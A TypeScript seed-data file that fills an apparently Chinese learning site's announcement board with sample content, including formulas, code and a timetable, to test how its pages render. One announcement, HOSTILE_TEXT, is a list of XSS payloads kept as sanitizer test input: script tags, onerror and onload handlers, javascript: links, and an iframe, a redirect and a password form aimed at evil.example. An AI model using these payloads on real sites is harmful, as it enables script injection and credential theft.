import type { Announcement } from '../../../domain/announcements.js';

/** An image inside the text, so that it needs no server. */
const SCHEDULE_DRAWING = `data:image/svg+xml,${encodeURIComponent(
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 960 240" width="960" height="240">
<rect width="960" height="240" rx="16" fill="#e4f3ff"/>
<path d="M80 180h800" stroke="#0b6bb8" stroke-width="4"/>
<g fill="#3ca7fa"><circle cx="160" cy="180" r="14"/><circle cx="400" cy="180" r="14"/><circle cx="640" cy="180" r="14"/><circle cx="840" cy="180" r="14"/></g>
<g font-family="PingFang SC,Microsoft YaHei,sans-serif" font-size="28" fill="#06243d" text-anchor="middle"><text x="160" y="140">预习</text><text x="400" y="140">听课</text><text x="640" y="140">练习</text><text x="840" y="140">复盘</text></g>
</svg>`,
)}`;

const COLUMNS = ['第一周', '第二周', '第三周', '第四周', '第五周', '第六周', '第七周', '第八周'];
const TIMETABLE = `<table style="width:1600px">
<caption>八周安排</caption>
<thead><tr><th scope="col">课程</th>${COLUMNS.map((week) => `<th scope="col">${week}</th>`).join('')}</tr></thead>
<tbody>
<tr><th scope="row">高等数学精讲</th><td>函数与极限</td><td>导数</td><td>微分中值定理</td><td>不定积分</td><td>定积分</td><td>级数</td><td>微分方程</td><td>总复习</td></tr>
<tr><th scope="row">编程入门</th><td>环境搭建</td><td>变量与类型</td><td>条件与循环</td><td>函数</td><td>数组与集合</td><td>对象</td><td>文件读写</td><td>小项目</td></tr>
</tbody></table>`;

/** Everything that an owner's editor can produce: the page must make it readable. */
const LEARNING_MATERIAL = String.raw`<h1>一、公式怎么读</h1>
<p>质能方程写作 $E = mc^2$，勾股定理写作 \(a^2 + b^2 = c^2\)。单独成行的公式有两种写法：</p>
<p>$$\int_{-\infty}^{+\infty} e^{-x^2}\,dx = \sqrt{\pi}$$</p>
<p>\[\lim_{n \to \infty}\left(1 + \frac{1}{n}\right)^n = e, \qquad S_{\text{圆}} = \pi r^2\]</p>
<p>讲义套装原价 $25，现在只要 $5，两套合计 $10；题库的年费是 US$12。</p>
<h1>二、代码怎么抄</h1>
<p>在页面里写空格用 <code>&amp;nbsp;</code>，写 &amp; 用 <code>&amp;amp;</code>；变量名 <code>$total$</code> 两边的美元符号不是公式。</p>
<pre><code class="language-java">public class Price {
    // 5 美元写作 "$5"，不是公式
    private static final String LABEL = "$5 &amp;nbsp; &lt;b&gt;现价&lt;/b&gt;";

    public static int total(int[] prices) {
        int sum = 0;
        for (int price : prices) sum += price;
        return sum; // 用 &amp;amp;&amp; 之前先想一想
    }
}
</code></pre>
<pre><code class="language-python">def mean(scores: list[float]) -> float:
    """平均分；没有成绩时为 0。"""
    return sum(scores) / len(scores) if scores else 0.0
</code></pre>
<h1>三、时间怎么排</h1>
<p><img src="${SCHEDULE_DRAWING}" alt="学习四步：预习、听课、练习、复盘" style="width:960px"></p>
${TIMETABLE}
<blockquote><p>学而不思则罔，思而不学则殆。</p></blockquote>
<ol><li>先看 <a href="/courses">课程列表</a>，选好课程；</li><li>再读 <a href="https://blog.example.com/learning">学习方法</a>；</li><li>有问题随时 <a href="mailto:study@example.com">写信给我们</a>。</li></ol>`;

/** Hostile HTML: none of it may take effect. */
export const HOSTILE_TEXT = `<p>这篇投稿里夹带了不该有的东西，页面只留下了文字。</p>
<script>alert('script')</script>
<img src="/no-such-image.png" onerror="alert('onerror')" alt="一张不存在的图片">
<img src=x: onerror=alert(1)>
<a href="javascript:alert('href')">看似链接的文字</a>
<a href="java&#10;script:alert('href')">换了行的链接</a>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/object"></object>
<form action="https://evil.example/steal"><input name="password"><button>提交</button></form>
<style>body { display: none }</style>
<p style="position:fixed;inset:0;background:url(https://evil.example/pixel)" class="toasts" id="root">盖住页面的文字</p>
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<math><mtext><img src=x onerror=alert('math')></mtext></math>
<video src="https://evil.example/video" autoplay onplay="alert('video')"></video>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<p>公式也一样：$\\href{javascript:alert('tex')}{x}$ 与 $\\includegraphics{https://evil.example/tex.png}$，写错的公式 $\\frac{1$ 和 $\\nosuchcommand$ 照原样显示。</p>`;

type UndatedAnnouncement = Omit<Announcement, 'createdAt'>;

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;

/** Short announcements, enough of them for a second page. */
const SHORT_ANNOUNCEMENTS: readonly (readonly [ageMs: number, announcement: UndatedAnnouncement])[] = [
  ...['八', '七', '六', '五', '四', '三', '二', '一'],
].map((number, index) => [
  (80 + 42 * index) * DAY,
  {
    id: 17 - index,
    title: `第${number}期直播答疑安排`,
    html: `<p>第${number}期直播答疑于本周五 19:30 开始，请提前在课程页提交问题。</p>`,
  },
]);

/**
 * The ages are relative to the start of the server, so that every form of a relative time appears
 * (docs/spec/every-page.md#times).
 */
const ANNOUNCEMENTS: readonly (readonly [ageMs: number, announcement: UndatedAnnouncement])[] = [
  [25 * MINUTE, { id: 5, title: '冬季学习资料使用说明', html: LEARNING_MATERIAL }],
  [5 * HOUR, { id: 4, title: '学员投稿选登', html: HOSTILE_TEXT }],
  [
    2 * DAY,
    {
      id: 3,
      title: '系统升级通知',
      html: '<p>本周日凌晨 2 点至 4 点系统升级，期间无法观看课程。</p>',
    },
  ],
  [
    8 * DAY,
    {
      id: 2,
      title: '假期客服安排',
      html: '<p>假期客服时间为 <strong>9:00–18:00</strong>。</p>',
    },
  ],
  [
    60 * DAY,
    {
      id: 1,
      title: '新学期课程上线',
      html: '<p>《高等数学精讲》与《商务英语写作》已更新，欢迎学习。</p>',
    },
  ],
  ...SHORT_ANNOUNCEMENTS,
];

/** The announcements of the site at `now` (epoch ms), newest first. */
export function seededAnnouncements(now: number): readonly Announcement[] {
  return ANNOUNCEMENTS.map(([ageMs, announcement]) => ({ ...announcement, createdAt: now - ageMs }));
}
